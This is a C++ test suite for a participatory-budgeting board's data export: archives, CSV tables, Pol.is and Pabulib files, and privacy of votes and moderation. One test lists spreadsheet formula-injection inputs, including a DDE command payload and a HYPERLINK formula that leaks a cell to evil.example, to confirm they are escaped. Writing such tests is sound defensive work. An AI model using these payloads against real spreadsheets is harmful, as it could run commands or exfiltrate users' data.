#include "base/sha256.hpp"
#include "net/secrets.hpp"
#include "support/archive_reader.hpp"
#include "support/random_story.hpp"
#include "wire/archive.hpp"
#include "wire/csv.hpp"
#include "wire/outbound.hpp"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <array>
#include <map>
#include <string>
#include <vector>

using namespace koudmen;
using namespace koudmen::board;
using namespace koudmen::tests;
using nlohmann::json;

namespace {

std::string archive_of(Board const& board)
{
    return wire::archive(board, wire::public_files(board), "public");
}

std::map<std::string, std::string> files_of(Board const& board)
{
    return unzip(archive_of(board));
}

// A table as rows by the names in its first line.
std::vector<std::map<std::string, std::string>> table(std::string const& text, char separator = ',')
{
    auto const rows = read_csv(text, separator);
    REQUIRE_FALSE(rows.empty());
    std::vector<std::map<std::string, std::string>> named;
    for (std::size_t at = 1; at < rows.size(); ++at) {
        REQUIRE(rows[at].size() == rows[0].size());
        std::map<std::string, std::string> row;
        for (std::size_t column = 0; column < rows[0].size(); ++column) {
            row[rows[0][column]] = rows[at][column];
        }
        named.push_back(std::move(row));
    }
    return named;
}

// A board with a vote of so many people on two proposals.
struct Vote {
    explicit Vote(std::size_t people, ResultsRule rule = ResultsRule::AfterClosing)
    {
        while (voters.size() < people) voters.push_back(maker.join("citizens", "Nom secret"));
        bus = maker.publish(voters[0], "bus");
        quay = maker.publish(voters[0], "quay");
        ballot = maker.open_ballot("ballot", rule);
        for (std::size_t at = 0; at < people; ++at) {
            auto const choice = static_cast<Choice>(at % 3);
            maker.done(voters[at], CastChoice{ballot, bus, choice});
            if (at % 2 == 0) maker.done(voters[at], CastChoice{ballot, quay, Choice::Oppose});
        }
    }

    BoardMaker maker;
    std::vector<Actor> voters;
    ProposalId bus;
    ProposalId quay;
    BallotId ballot;
};

constexpr auto votes_file = "polis/ballot-1/participants-votes.csv";

} // namespace

TEST_CASE(
    "E20: an archive tells of each file its size and hash, and the same journal the same bytes",
    "[export]")
{
    RandomStory story(3);
    story.steps(400);
    auto const& board = story.maker.board;
    auto const bytes = archive_of(board);
    auto const files = unzip(bytes);
    auto const manifest = json::parse(files.at("manifest.json"));
    CHECK(manifest["board"] == "K7P4X");
    CHECK(manifest["kind"] == "public");
    CHECK(manifest["asOf"]["position"] == board.position.value);
    std::size_t told = 1; // The manifest itself.
    for (auto const& file : manifest["files"]) {
        auto const& content = files.at(file["name"].get<std::string>());
        CHECK(file["bytes"] == content.size());
        CHECK(file["sha256"] == sha256(content));
        ++told;
    }
    CHECK(told == files.size());
    CHECK(files.at("roadmap.json") == wire::roadmap(board));
    CHECK_THAT(files.at("roadmap.schema.json"), containing("urn:koudmen:roadmap:1"));

    Board again;
    for (auto const& recorded : story.maker.history) apply(again, recorded);
    CHECK(archive_of(again) == bytes);
}

TEST_CASE("E21: whatever is written in a cell is read back, and no cell is a formula", "[export]")
{
    // What is written, and what a spreadsheet is given.
    std::vector<std::pair<std::string, std::string>> const cells{
        {"", ""},
        {"plain", "plain"},
        {"a,b;c", "a,b;c"},
        {"say \"no\"", "say \"no\""},
        {"\"", "\""},
        {"two\nlines", "two\nlines"},
        {"Île-à-dlo 🌊 نقل", "Île-à-dlo 🌊 نقل"},
        {"=1+1", "'=1+1"},
        {"+33 596", "'+33 596"},
        {"-5", "'-5"},
        {"@cmd", "'@cmd"},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        {"＝1", "'＝1"},
        {"＠x", "'＠x"},
        {"=HYPERLINK(\"http://evil.example?x=\"&A1,\"a,b\")",
         "'=HYPERLINK(\"http://evil.example?x=\"&A1,\"a,b\")"},
        {"a=1", "a=1"},
        {"'=1", "''=1"},
        {"'a", "'a"},
        {"'", "'"},
        {" ", " "},
    };
    wire::Table written{{"text", "other"}, {}};
    for (auto const& [text, given] : cells) written.rows.push_back({text, std::int64_t{-1}});
    for (auto const separator : {wire::Separator::Comma, wire::Separator::Semicolon}) {
        bool const french = separator == wire::Separator::Semicolon;
        auto const text = wire::csv(written, separator);
        CHECK(text.starts_with("\xEF\xBB\xBF") == french);
        auto const rows = read_csv(text, french ? ';' : ',');
        REQUIRE(rows.size() == cells.size() + 1);
        for (std::size_t at = 0; at < cells.size(); ++at) {
            CHECK(rows[at + 1] == std::vector<std::string>{cells[at].second, "-1"});
        }
    }
    CHECK(wire::csv({{"a", "b"}, {{"x", "y,\"z\""}}}) == "a,b\r\nx,\"y,\"\"z\"\"\"\r\n");
}

TEST_CASE("E22: the tables tell what the roadmap tells, each proposal and each number", "[export]")
{
    for (std::uint32_t seed = 1; seed <= 8; ++seed) {
        RandomStory story(seed);
        story.steps(600);
        auto const files = files_of(story.maker.board);
        auto const roadmap = json::parse(files.at("roadmap.json"));
        auto const actions = table(files.at("actions.csv"));
        CHECK(table(files.at("actions.fr.csv"), ';') == actions);
        REQUIRE(actions.size() == roadmap["roadmap"]["actions"].size());
        std::size_t promised = 0;
        for (std::size_t at = 0; at < actions.size(); ++at) {
            auto const& action = roadmap["roadmap"]["actions"][at];
            CHECK(actions[at].at("reference") == action["reference"]);
            CHECK(actions[at].at("decision") == action["decision"]["decision"]);
            CHECK(actions[at].at("start") == action.value("start", ""));
            promised += action.value("commitments", json::array()).size();
        }
        auto const proposals = table(files.at("proposals.csv"));
        CHECK(proposals.size() == actions.size() + roadmap["proposals"].size());
        CHECK(table(files.at("commitments.csv")).size() == promised);

        // Every number of every result that is shown, and no other.
        std::map<std::string, std::string> expected;
        for (auto const* list : {&roadmap["roadmap"]["actions"], &roadmap["proposals"]}) {
            for (auto const& action : *list) {
                for (auto const& result : action.value("results", json::array())) {
                    auto const key = [&](std::string const& college, std::string const& measure) {
                        return result["ballot"].get<std::string>() + action["reference"].dump() +
                               college + measure;
                    };
                    for (auto const& [measure, value] : result["counts"].items())
                        expected[key("", measure)] = value.dump();
                    for (auto const& part : result["byCollege"]) {
                        auto const college = part["college"].get<std::string>();
                        auto const counts = part.value("counts", json::object());
                        for (auto const& [measure, value] : counts.items())
                            expected[key(college, measure)] = value.dump();
                    }
                }
            }
        }
        std::map<std::string, std::string> ids;
        for (auto const& ballot : roadmap["ballots"])
            ids[ballot["number"].dump()] = ballot["id"].get<std::string>();
        std::size_t counts = 0;
        for (auto const& row : table(files.at("results.csv"))) {
            auto const& measure = row.at("measure");
            auto const& choices = words<Choice>;
            if (std::find(choices.begin(), choices.end(), measure) == choices.end()) continue;
            ++counts;
            CHECK(expected.at(ids.at(row.at("ballot")) + json(row.at("reference")).dump() +
                              row.at("college") + measure) == row.at("value"));
        }
        CHECK(counts == expected.size());
    }
}

TEST_CASE("E22: with the order alone the tables tell places, and all numbers with the rest",
          "[export]")
{
    Vote vote(12, ResultsRule::WhenRevealed);
    auto& maker = vote.maker;
    maker.done(facilitator, CloseBallot{vote.ballot});
    auto const measures = [&] {
        std::map<std::string, std::string> told;
        for (auto const& row : table(files_of(maker.board).at("results.csv"))) {
            if (row.at("college").empty() && row.at("reference") == "K7P4X-1") {
                told[row.at("measure")] = row.at("value");
            }
        }
        return told;
    };
    CHECK(measures().empty());
    maker.done(facilitator, RevealBallot{vote.ballot, RevealStep::Order});
    CHECK(measures() == std::map<std::string, std::string>{{"rank", "1"}});
    CHECK_FALSE(files_of(maker.board).contains(votes_file));
    maker.done(facilitator, RevealBallot{vote.ballot});
    auto const all = measures();
    CHECK(all.at("people") == "12");
    for (auto const* measure : {"rank", "support", "neutral", "oppose", "wilson", "controversy"}) {
        CHECK(all.contains(measure));
    }
}

TEST_CASE("E22: hidden results are in no file of an archive", "[export]")
{
    for (auto const rule :
         {ResultsRule::AfterOwnVote, ResultsRule::AfterClosing, ResultsRule::WhenRevealed}) {
        INFO(word(rule));
        Vote vote(12, rule);
        auto const shown = [&] {
            auto const files = files_of(vote.maker.board);
            bool const results = table(files.at("results.csv")).size() > 0;
            CHECK(files.contains(votes_file) == results);
            auto const proposals = table(files.at("proposals.csv"));
            CHECK((proposals[0].at("support") != "") == results);
            return results;
        };
        CHECK_FALSE(shown());
        vote.maker.done(facilitator, CloseBallot{vote.ballot});
        CHECK(shown() == (rule != ResultsRule::WhenRevealed));
        vote.maker.done(facilitator, RevealBallot{vote.ballot});
        CHECK(shown());
        auto switches = vote.maker.board.now();
        switches.results = false;
        vote.maker.done(facilitator, ConfigurePhase{vote.maker.board.phase, switches});
        CHECK_FALSE(shown());
    }
}

TEST_CASE("E23: the files of Pol.is hold every standing choice, and neither author nor moment",
          "[export]")
{
    Vote vote(13);
    auto& maker = vote.maker;
    maker.done(vote.voters[0], CastChoice{vote.ballot, vote.bus, {}});
    maker.done(vote.voters[1], CastChoice{vote.ballot, vote.bus, Choice::Support});
    maker.pass(std::chrono::minutes{5});
    maker.done(facilitator, CloseBallot{vote.ballot});
    auto const files = files_of(maker.board);

    // As the ballot has it: how many people gave which answers to the two proposals.
    std::map<std::array<std::string, 2>, int> expected;
    auto const sign = [](std::optional<Choice> const& choice) -> std::string {
        if (!choice) return "";
        return *choice == Choice::Support ? "1" : *choice == Choice::Oppose ? "-1" : "0";
    };
    auto const& ballot = maker.ballot(vote.ballot);
    std::size_t choices = 0;
    for (auto const& [number, voter] : ballot.voters) {
        if (voter.standing == 0) continue;
        std::array<std::string, 2> said;
        for (auto const& [proposal, cast] : voter.casts) {
            said[proposal == vote.bus ? 0 : 1] = sign(cast.choice);
            choices += cast.choice ? 1 : 0;
        }
        ++expected[said];
    }
    std::map<std::array<std::string, 2>, int> found;
    auto const rows = table(files.at(votes_file));
    for (std::size_t at = 0; at < rows.size(); ++at) {
        CHECK(rows[at].at("participant") == std::to_string(at));
        CHECK(rows[at].at("group-id").empty());
        ++found[{rows[at].at("1"), rows[at].at("2")}];
    }
    CHECK(found == expected);

    auto const votes = table(files.at("polis/ballot-1/votes.csv"));
    CHECK(votes.size() == choices);
    for (auto const& row : votes) {
        CHECK(row.at("timestamp") == std::to_string(ballot.opened_at.milliseconds));
        CHECK(rows[std::stoul(row.at("voter-id"))].at(row.at("comment-id")) == row.at("vote"));
    }
    auto const comments = table(files.at("polis/ballot-1/comments.csv"));
    REQUIRE(comments.size() == 2);
    CHECK(comments[0].at("author-id").empty());
    CHECK(comments[0].at("agrees") == std::to_string(ballot.tallies.at(vote.bus).counts[0]));
    CHECK(comments[1].at("disagrees") == std::to_string(ballot.tallies.at(vote.quay).counts[2]));
    CHECK_THAT(files.at("polis/ballot-1/summary.csv"), containing("voters,13\r\n"));
}

TEST_CASE("E24: pseudonyms differ by ballot and by export, and few voters have no files",
          "[export]")
{
    Vote vote(30);
    auto& maker = vote.maker;
    maker.done(facilitator, CloseBallot{vote.ballot});
    auto const first = files_of(maker.board).at(votes_file);
    CHECK(files_of(maker.board).at(votes_file) == first);
    // Something happens that has nothing to do with the vote.
    maker.done(facilitator, StartTimer{60});
    CHECK(files_of(maker.board).at(votes_file) != first);
    // Nor are they the order in which people came.
    std::vector<std::string> in_order;
    for (std::size_t at = 0; at < vote.voters.size(); ++at) {
        in_order.push_back(at % 3 == 0 ? "1" : at % 3 == 1 ? "0" : "-1");
    }
    std::vector<std::string> told;
    for (auto const& row : table(first)) told.push_back(row.at("1"));
    CHECK(told != in_order);

    for (std::size_t const people : {small_cell_min - 1, small_cell_min}) {
        Vote few(people);
        few.maker.done(facilitator, CloseBallot{few.ballot});
        CHECK(files_of(few.maker.board).contains(votes_file) == (people >= small_cell_min));
    }
}

TEST_CASE("E25: what moderation did is told without a text or a person", "[export]")
{
    BoardMaker maker;
    auto const ana = maker.join("citizens", "Nom secret");
    auto const bus = maker.publish(ana, "bus");
    auto const rude = maker.submit(ana, "secret-1");
    auto const asked = maker.submit(ana, "secret-2");
    maker.done(moderator, DeclineProposal{rude, DeclineReason::Disrespectful, "Mots secrets"});
    maker.done(moderator, ReturnProposal{asked, "Question secrète"});
    maker.done(ana, SubmitComment{id<CommentId>("c"), bus, Stance::Note, "Propos secret"});
    maker.done(moderator, HideComment{id<CommentId>("c"), true});
    auto const files = files_of(maker.board);
    auto told = read_csv(files.at("moderation.csv"));
    REQUIRE(told.size() == 5);
    CHECK(told[0] ==
          std::vector<std::string>{"position", "at", "act", "proposal", "into", "reason"});
    // When it was is in the roadmap's log, as here.
    for (auto& row : told) row.erase(row.begin(), row.begin() + 2);
    CHECK(std::vector(told.begin() + 1, told.end()) ==
          std::vector<std::vector<std::string>>{{"published", "1", "", ""},
                                                {"declined", "2", "", "disrespectful"},
                                                {"returned", "3", "", ""},
                                                {"commentHidden", "1", "", ""}});
    for (auto const& [name, bytes] : files) {
        INFO(name);
        CHECK(bytes.find("secret") == std::string::npos);
    }
}

TEST_CASE("E26: a data card says in French and in English what the files are", "[export]")
{
    Vote vote(6);
    auto const files = files_of(vote.maker.board);
    for (auto const* name : {"data-card.fr.md", "data-card.en.md"}) {
        auto const& card = files.at(name);
        CHECK(card.find('{') == std::string::npos);
        CHECK_THAT(card, containing("Feuille de route"));
        CHECK_THAT(card, containing("Que retenir ?"));
        for (auto const& [file, bytes] : files) {
            if (file.find('/') == std::string::npos && !file.ends_with(".fr.csv") &&
                !file.starts_with("data-card")) {
                CHECK_THAT(card, containing(file));
            }
        }
    }
    // What people wrote is not taken for a place to fill.
    auto create = usual_board();
    create.title = "{code} {people}";
    BoardMaker maker(create);
    CHECK_THAT(files_of(maker.board).at("data-card.en.md"), containing("# {code} {people}: "));
}

TEST_CASE("E27: approvals and dots have files of Pabulib that add up to their tallies", "[export]")
{
    for (auto const method : {Method::Approval, Method::Dots}) {
        bool const dots = method == Method::Dots;
        BoardMaker maker;
        std::vector<Actor> people;
        while (people.size() < 7) people.push_back(maker.join());
        auto const bus = id<ProposalId>("bus");
        maker.done(people[0], SubmitProposal{bus, "bus; \"fast\"", "", {"inclusion"}});
        maker.done(moderator, PublishProposal{bus});
        auto const quay = maker.publish(people[0], "quay");
        auto const ballot = id<BallotId>("ballot");
        maker.done(facilitator, OpenPhase{Phase::Vote});
        OpenBallot open{ballot, "Que; retenir ?", method, ResultsRule::AfterClosing, {}, {}};
        if (dots) open.terms = {{}, 5, 3, {}};
        maker.done(facilitator, open);
        for (std::size_t at = 0; at < people.size(); ++at) {
            auto const choice =
                dots ? (at % 2 == 0 ? Choice::TwoDots : Choice::OneDot) : Choice::Approve;
            maker.done(people[at], CastChoice{ballot, bus, choice});
            if (at < 3) maker.done(people[at], CastChoice{ballot, quay, choice});
        }
        constexpr auto name = "pabulib/ballot-1.pb";
        CHECK_FALSE(files_of(maker.board).contains(name));
        maker.done(facilitator, CloseBallot{ballot});
        auto const files = files_of(maker.board);
        CHECK_FALSE(files.contains("polis/ballot-1/votes.csv"));
        auto const& text = files.at(name);
        CHECK_THAT(text, containing("num_projects;2\nnum_votes;7\n"));
        CHECK_THAT(text, containing("description;Que, retenir ?\n"));
        CHECK_THAT(text, containing(dots ? "1;1;7;11;bus,  fast \n2;1;3;5;quay\n"
                                         : "1;1;7;bus,  fast \n2;1;3;quay\n"));
        auto votes = text.substr(text.find("VOTES\n"));
        std::size_t both = 0;
        std::size_t lines = 0;
        for (std::size_t at = 0; (at = votes.find('\n', at)) != std::string::npos; ++at) ++lines;
        for (std::size_t at = 0; (at = votes.find(";1,2", at)) != std::string::npos; ++at) ++both;
        CHECK(lines == 2 + people.size());
        CHECK(both == 3);
    }
}
